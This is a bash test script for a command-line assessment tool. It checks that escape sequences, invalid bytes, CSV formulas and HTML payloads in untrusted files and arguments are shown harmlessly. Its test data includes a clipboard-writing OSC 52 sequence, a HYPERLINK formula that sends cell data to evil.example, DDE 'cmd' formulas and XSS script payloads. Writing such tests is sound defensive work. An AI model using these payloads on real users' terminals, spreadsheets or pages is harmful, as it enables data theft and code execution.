#!/usr/bin/env bash
# Files from elsewhere are untrusted (issue 11). Every command's output,
# for people and --csv, and every error message, for files, file names,
# arguments and a framework holding escape sequences (OSC 0 and 52, a
# screen clear), BEL, the C1 CSI (U+009B), a bidi override (U+202E) and
# bytes that are not UTF-8: no such character reaches standard output or
# standard error, and each is shown in its visible form. No --csv field is
# a formula; the HTML report holds no element the program did not write.
. "$(dirname "$0")/../lib.sh"
HELPER="$(cd "$(dirname "$0")" && pwd)/untrusted.py"

# Every kind at once, in every field; the file names add bytes that are
# not UTF-8 (the files' contents cannot hold those: they are refused).
P=$'\e]0;PWNED\a\e]52;c;cHduZWQ=\a\a\e[2J\xc2\x9b31m\xe2\x80\xaeevil'
BAD=$'\xff\xfe'
# ... and how they must be shown (single quotes: these are backslashes)
VP='\e]0;PWNED\x07\e]52;c;cHduZWQ=\x07\x07\e[2J\u009b31m\u202eevil'
VB='\xff\xfe'

D="$WORK/d"
mkdir "$D"
A="$D/self$P$BAD.csv"
B="$D/peer$P$BAD.csv"
python3 "$HELPER" assessment "$A" "$P"
python3 "$HELPER" assessment "$B" "$P" peer
FW="$D/fw$P$BAD"
cp -r "$DATA/../../data" "$FW"
python3 "$HELPER" framework "$FW" "$P"

# probe WHAT human|csv [SHOWN...] -- CMD...: run CMD (standard input from
# $PROBE_INPUT); nothing forbidden may reach its standard output or error
# (for csv, no formula either), and each SHOWN must appear in one of them.
# The outputs are kept in $PROBES and checked all at once by check_probes
# (one Python start, not one per command).
PROBES="$WORK/probes"
mkdir "$PROBES"
probes=0
probe() {
	local what=$1 mode=$2 at="$PROBES/$probes"
	shift 2
	printf '%s' "$what" >"$at.what"
	printf '%s' "$mode" >"$at.mode"
	: >"$at.shown"
	while [ "$1" != "--" ]; do printf '%s\0' "$1" >>"$at.shown"; shift; done
	shift
	"$@" <"${PROBE_INPUT:-/dev/null}" >"$at.out" 2>"$at.err"
	probes=$((probes + 1))
}

check_probes() {
	local failed
	failed=$(python3 "$HELPER" check-all "$PROBES" "$probes")
	checks=$((checks + probes - failed))
	failures=$((failures + failed))
}

# A file of one line after the header, named and holding the payload.
one_line() { # NAME HEADER ROW
	printf '%s\n%s\n' "$2" "$3" >"$D/$1$P$BAD.csv"
	echo "$D/$1$P$BAD.csv"
}

# ---- every command, for people and for machines ----
probe "score" human "self$VP$VB.csv" "Org $VP" -- "$BIN" score "$A"
probe "score --csv" csv "self$VP$VB.csv" -- "$BIN" score --csv "$A"
probe "compare" human "Self-assessment: Org $VP" "(file $D/self$VP$VB.csv)" \
	"Peer review: Peer $VP" "history: 2026-11-23 10:00 | Who $VP" -- "$BIN" compare "$A" "$B"
probe "compare --csv" csv -- "$BIN" compare --csv "$A" "$B"
# The activity is wrapped to the page (core/text breaks after "c;"): both
# parts are shown, each in its safe visible form.
VP1='\e]0;PWNED\x07\e]52;c;' VP2='cHduZWQ=\x07\x07\e[2J\u009b31m\u202eevil'
probe "plan" human "self$VP$VB.csv (Org $VP" "Action $VP1" "$VP2" "Lead:     Lead $VP" "(By $VP)" \
	-- "$BIN" plan "$A"
probe "actions" human "self$VP$VB.csv (Org $VP" "Action $VP1" "$VP2" "Lead:     Lead $VP" \
	"(By $VP)" "self$VP$VB-actions.csv" -- "$BIN" actions "$A"
probe "actions --csv" csv "Action $VP" "Lead $VP" "By $VP" -- "$BIN" actions --csv "$A"
probe "actions --lead" human "lead \"$VP\"" -- "$BIN" actions --lead "$P" "$A"
probe "dashboard" human "self$VP$VB.csv (Org $VP" -- "$BIN" dashboard "$A"
probe "dashboard --csv" csv -- "$BIN" dashboard --csv "$A"
probe "plan --layout action-plan" csv "Action $VP" "By $VP" -- "$BIN" plan --layout action-plan "$A"
probe "progress" human "Org $VP" "self$VP$VB.csv" -- "$BIN" progress "$A" "$A"
probe "progress --csv" csv "self$VP$VB.csv" -- "$BIN" progress --csv "$A" "$A"
probe "plan --csv" csv "Action $VP" "Lead $VP" "By $VP" -- "$BIN" plan --csv "$A"
# (profiles show a name's first 40 bytes; a self-assessment and a peer
# review are benchmarked apart, clarifications rule 19)
probe "benchmark --named" human "  Org \e]0;PWNED\x07" "set aside $D/peer$VP$VB.csv" \
	-- "$BIN" benchmark --named "$A" "$B"
probe "benchmark --named --type peer" human "  Peer \e]0;PWNED\x07" \
	-- "$BIN" benchmark --named --type peer "$A" "$B"
probe "benchmark --highlight" human "* marks Org $VP" "    Org $VP: " \
	-- "$BIN" benchmark --highlight "Org $P" "$A" "$B"
probe "benchmark --csv" csv -- "$BIN" benchmark --csv --highlight "Org $P" "$A" "$B"
probe "report" human "Wrote $D/report$VP$VB.html" \
	-- "$BIN" report "$A" --compare "$B" -o "$D/report$P$BAD.html"
probe "the report itself" human "Org $VP" -- cat "$D/report$P$BAD.html"
probe "new echoes its arguments" human "Created $D/new$VP$VB.csv" "assessment of Org $VP" \
	-- "$BIN" new "$D/new$P$BAD.csv" --organisation "Org $P" --assessor "A $P"
probe "criteria (a framework holding it)" human "$VP" -- "$BIN" --framework "$FW" criteria
probe "criteria --csv" csv "$VP" -- "$BIN" --framework "$FW" criteria --csv
probe "about (a framework holding it)" human "$VP" -- "$BIN" --framework "$FW" about
probe "validate" human "version 14$VP: well-formed" -- "$BIN" --framework "$FW" validate
probe "validate --csv" csv -- "$BIN" --framework "$FW" validate --csv
probe "score with that framework" human "Strategic Leadership and Management $VP" \
	-- "$BIN" --framework "$FW" score "$A"

# ---- plain mode (what runs when TERM is dumb) ----
printf 'g 1.1\ne\n\n\ns\nq\n' >"$WORK/keys"
PROBE_INPUT="$WORK/keys" probe "plain mode" human "Summary for Org $VP" \
	"Evidence, now \"Evidence $VP\"" "Saved: $D/self$VP$VB.csv" -- env TERM=dumb "$BIN" "$A"
PROBE_INPUT="$WORK/keys" probe "plain mode --compare" human \
	"Peer review: " "Self-assessment's evidence: Evidence $VP" -- env TERM=dumb "$BIN" --compare "$B" "$A"
printf '%s\n' "Org $P" self "A $P" 2026-11-23 q >"$WORK/keys"
PROBE_INPUT="$WORK/keys" probe "plain mode, a new file" human \
	"New assessment $D/plain$VP$VB.csv" "Created $D/plain$VP$VB.csv" \
	-- env TERM=dumb "$BIN" "$D/plain$P$BAD.csv"
# (from a pipe the first invalid answer ends the run, naming it on
# standard error: one answer a run)
printf '1.%s\nq\n' "$P" >"$WORK/keys"
PROBE_INPUT="$WORK/keys" probe "plain mode echoes what was typed" human \
	"\"1.$VP\": expected" -- env TERM=dumb "$BIN" "$A"
printf 'foo%s\nq\n' "$P" >"$WORK/keys"
PROBE_INPUT="$WORK/keys" probe "plain mode echoes what was typed, again" human \
	"\"foo$VP\": expected" -- env TERM=dumb "$BIN" "$A"

# ---- every error message that quotes a field, a name or an argument ----
probe "a file that is not there" human "missing$VP$VB.csv: cannot open" \
	-- "$BIN" score "$D/missing$P$BAD.csv"
f=$(one_line level "criterion_id,level" "1.1,lead$P")
probe "a bad level" human "level$VP$VB.csv:2: field \"level\" is \"lead\\e]0;PWNED\\x07" \
	-- "$BIN" score "$f"
f=$(one_line criterion "criterion_id,level" "9.$P,none")
probe "an unknown criterion" human "field \"criterion_id\" is \"9.\\e]0;PWNED" -- "$BIN" score "$f"
printf 'criterion_id,level,organisation\n1.1,none,A%s\n1.2,none,B%s\n' "$P" "$P" >"$D/mixed$P.csv"
probe "two organisations" human "is \"B$VP\" but line 2 says \"A$VP\"" \
	-- "$BIN" score "$D/mixed$P.csv"
f=$(one_line date "criterion_id,level,date" "1.1,none,2026$P")
probe "a bad date" human "field \"date\" is \"2026$VP\"" -- "$BIN" score "$f"
f=$(one_line type "criterion_id,level,assessment_type" "1.1,none,self$P")
probe "a bad type" human "field \"assessment_type\" is \"self$VP\"" -- "$BIN" score "$f"
f=$(one_line version "criterion_id,level,framework_version" "1.1,none,14$P")
probe "another version" human "field \"framework_version\" is \"14$VP\"" -- "$BIN" plan "$f"
f=$(one_line id "criterion_id,level,framework_id" "1.1,none,id$P")
probe "another framework" human "field \"framework_id\" is \"id$VP\"" -- "$BIN" compare "$f" "$A"
f=$(one_line twice "criterion_id,level,dup$P,DUP$P" "1.1,none,x,y")
probe "a column twice" human "column \"DUP$VP\" appears twice" -- "$BIN" benchmark "$f"
f=$(one_line guarded "criterion_id,level,=x$P,'=x$P" "1.1,none,x,y")
probe "one column with and without the guard" human "columns \"=x$VP\" and \"'=x$VP\"" \
	-- "$BIN" score "$f"
# (0x81: no Windows-1252 character either, so the file is not converted)
printf 'criterion_id,level,notes\n1.1,none,x\x81%s\n' "$BAD" >"$D/latin$P.csv"
probe "bytes that are not UTF-8 in a file" human "latin$VP.csv:2: column 11: byte 0x81" \
	-- "$BIN" report "$D/latin$P.csv" -o "$D/r.html"
probe "new --type" human "--type is 'self$VP'" \
	-- "$BIN" new "$D/n.csv" --organisation X --type "self$P"
probe "new --date" human "--date is 'd$VP$VB'" \
	-- "$BIN" new "$D/n.csv" --organisation X --date "d$P$BAD"
probe "new --organisation not UTF-8" human "not valid UTF-8" \
	-- "$BIN" new "$D/n.csv" --organisation "X$BAD"
probe "an unknown option" human "unknown option '--x$VP$VB'" -- "$BIN" "--x$P$BAD"
probe "an unknown command" human "unknown command 'cmd$VP$VB'" -- "$BIN" "cmd$P$BAD" a b
probe "--highlight names nobody" human "no assessment of \"nobody$VP$VB\"" \
	-- "$BIN" benchmark --highlight "nobody$P$BAD" "$A"
probe "--framework that is not there" human "nowhere$VP$VB/framework.csv: cannot open" \
	-- "$BIN" --framework "$D/nowhere$P$BAD" validate
cp -r "$DATA/../../data" "$D/badfw"
sed -i "s/^developing,/dev$P,/" "$D/badfw/levels.csv"
probe "a framework's bad field" human "field \"level\" is \"dev$VP\"" \
	-- "$BIN" --framework "$D/badfw" criteria
lock="$D/.self$P$BAD.csv.lock"
printf 'pid 1 on host%s\n' "$P" >"$lock"
exec {held}>>"$lock" # this shell holds the lock, as another wizard would
flock -x "$held"
probe "the lock's holder" human "open in another tri-assess (pid 1 on host$VP)" \
	-- env TERM=dumb "$BIN" "$A"
exec {held}>&-

# ---- formulas: no --csv field from input is one; computed numbers stay ----
F="$WORK/f"
mkdir "$F"
FORMULA='=HYPERLINK("http://evil.example/?"&A1;"Click")'
python3 "$HELPER" assessment "$F/=x.csv" "$FORMULA" bare
python3 "$HELPER" assessment "$F/+y.csv" "+cmd|' /C calc'!A0" peer bare
cp -r "$DATA/../../data" "$F/fw"
python3 "$HELPER" framework "$F/fw" "@SUM(1+1)*cmd|' /C calc'!A0" bare
pushd "$F" >/dev/null || exit 1
probe "score --csv, a file named =x.csv" csv "'=x.csv" -- "$BIN" score --csv =x.csv +y.csv
probe "compare --csv" csv ",-1,yes" -- "$BIN" compare --csv =x.csv +y.csv
probe "plan --csv" csv "'=HYPERLINK" -- "$BIN" plan --csv =x.csv
probe "benchmark --csv" csv -- "$BIN" benchmark --csv --highlight "$FORMULA" =x.csv +y.csv
probe "criteria --csv" csv "'@SUM" -- "$BIN" --framework fw criteria --csv
probe "validate --csv" csv -- "$BIN" --framework fw validate --csv
probe "score --csv with that framework" csv "'@SUM" -- "$BIN" --framework fw score --csv =x.csv
probe "plan --csv with that framework" csv -- "$BIN" --framework fw plan --csv =x.csv
printf '1\nq\n' >"$WORK/keys"
PROBE_INPUT="$WORK/keys" probe "a save" human "Saved: +y.csv" -- env TERM=dumb "$BIN" +y.csv
probe "the saved assessment file" csv "'+cmd" -- cat +y.csv
popd >/dev/null || exit 1

# ---- the HTML report: nothing the program did not write, no file path ----
H='<script>alert(1)</script>"'"'"'</style>]]><!--javascript:alert(2)-->'
NAME='x"><img src=x onerror=alert(document.domain)><script>alert(3)<!--]]>javascript:'
mkdir "$WORK/h"
python3 "$HELPER" assessment "$WORK/h/$NAME.csv" "$H"
python3 "$HELPER" assessment "$WORK/h/y$NAME.csv" "$H" peer
cp -r "$DATA/../../data" "$WORK/h/fw$NAME"
python3 "$HELPER" framework "$WORK/h/fw$NAME" "$H"
run "$BIN" --framework "$WORK/h/fw$NAME" report "$WORK/h/$NAME.csv" \
	--compare "$WORK/h/y$NAME.csv" -o "$WORK/h/report.html"
expect_eq "report with hostile names and fields: exit" 0 "$RC"
if python3 "$HELPER" html "$WORK/h/report.html" "Org $H" "Assessor $H" "Action $H" \
	"Lead $H" "By $H" "Who $H" "14$H" --absent "$NAME.csv" "$WORK/h"; then
	pass
else
	fail "the report holds an element or attribute the program did not write"
fi
check_probes
finish
